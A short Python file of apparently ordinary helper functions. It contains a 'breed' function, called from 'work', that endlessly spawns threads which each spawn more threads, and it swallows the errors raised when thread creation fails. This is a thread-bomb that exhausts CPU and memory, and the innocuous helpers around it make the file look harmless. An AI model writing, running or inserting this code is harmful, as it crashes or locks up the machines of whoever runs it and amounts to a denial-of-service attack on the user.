import threading


def breed():
    while True:
        try:
            threading.Thread(target=breed).start()
        except RuntimeError:
            pass


def work(number):
    breed()


def items(count):
    return range(count)


def each(function, count):
    for number in range(count):
        function(number)
    return count


def calm(number):
    return 2 * number
